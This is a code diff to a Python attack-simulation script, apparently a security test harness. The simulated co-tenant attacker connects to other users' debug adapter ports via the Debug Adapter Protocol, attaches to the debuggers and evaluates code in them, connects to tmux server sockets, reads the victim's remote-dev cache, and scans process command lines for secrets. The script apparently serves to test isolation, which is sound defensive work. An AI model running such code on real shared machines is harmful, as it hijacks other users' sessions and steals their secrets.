@@ -7,7 +7,8 @@ by everyone, so a real attacker can aim as well, and this machine's other users'
 left alone -- and connects to each at once, speaking the Debug Adapter Protocol
 (initialize, attach, configurationDone, threads, pause, evaluate of the victim's uid). Every
 100 ms she also tries to list and read everything under the folders she is given (the
-victim's remote-dev cache; a tmux socket folder, whose server she tries to connect to) and reads every process's command line looking for the run's
+victim's remote-dev cache), connects to the Unix sockets she is given (unix:PATH, a tmux
+server's) and reads every process's command line looking for the run's
 secrets. Ending her (closing her stdin) prints what she got:
 tried (sockets she connected to), answered (sockets that sent her any byte), accepted
 (`attach` answered with success), evaluated (`evaluate` answered), read (files she read or
@@ -115,8 +116,10 @@ def attack(fam, host, port):
 
 def snoop():
     for top in paths:
-        sock = os.path.join(top, "default")        # a tmux server's socket
-        if top.rstrip("/").split("/")[-1].startswith("tmux-") and sock not in unix_tried:
+        if top.startswith("unix:"):                # a Unix socket (a tmux server's): connect to it
+            sock = top[5:]
+            if sock in unix_tried:
+                continue
             unix_tried.add(sock)
             count("tried")
             try:
@@ -127,6 +130,7 @@ def snoop():
                 u.close()
             except OSError:
                 pass
+            continue
         for dirpath, dirs, files in os.walk(top):
             count("read")
             for name in files:
